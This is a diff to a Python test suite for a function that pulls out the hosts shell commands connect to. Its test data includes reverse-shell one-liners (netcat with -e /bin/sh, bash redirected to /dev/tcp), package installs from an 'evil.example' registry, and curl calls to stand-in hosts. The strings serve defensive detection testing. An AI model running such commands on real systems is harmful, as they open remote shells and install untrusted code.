@@ -137,6 +137,15 @@ or `iwr https://evil.example/y`."""
         ("nc 203.0.113.9 4444 -e /bin/sh", ["203.0.113.9"]),
         ('connect("203.0.113.9")', ["203.0.113.9"]),
         ("listen 203.0.113.9:4444;", ["203.0.113.9:4444"]),
+        ("HOST=203.0.113.9", ["203.0.113.9"]),
+        ("curl > page.html evil.example?x=1 2>&1", ["evil.example?x=1"]),
+        ("# curl.exe evil.example", ["evil.example"]),
+        ("pip install --index-url evil.example/simple tool", ["evil.example/simple"]),
+        ("npm install --registry=evil.example tool", ["evil.example"]),
+        ("openssl s_client -connect evil.example:443", ["evil.example:443"]),
+        ("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", ["203.0.113.9/4444"]),
+        ("git remote add origin evil.example:a/b.git", ["evil.example:a/b.git"]),
+        ("ssh fe80::1", ["fe80::1"]),
         ("curl localhost:8000/a 127.0.0.1:80 $HOST/x {host}/y", []),
         ("pip install tool==1.2.3.4", []),
         ("subnet 203.0.113.0/24", []),
@@ -145,6 +154,7 @@ or `iwr https://evil.example/y`."""
         ("sync.py main.py README.md && cat docs/index.md", []),
         ("scp notes.txt data.csv backup/", []),
         ("app.nc config.yml", []),
+        ("wget -i names.txt; app_version: 1.2.3.4", []),
     ],
 )
 def test_hosts_that_commands_connect_to_are_addresses(code: str, found: list[str]) -> None:
